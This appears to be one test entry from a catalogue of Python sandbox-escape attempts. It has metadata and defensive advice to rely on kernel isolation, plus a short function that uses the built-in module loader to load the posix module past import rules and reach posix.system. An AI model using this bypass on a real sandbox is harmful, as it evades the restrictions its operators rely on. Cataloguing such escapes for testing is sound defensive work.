# title: Import through a loader
# tries: Takes the loader of a module that is there and lets it load the module beneath os, past the import statement and its rules.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import sys

    loader = sys.__spec__.loader
    posix = loader.create_module(loader.find_spec("posix"))
    return f"{posix.system} by {loader}"
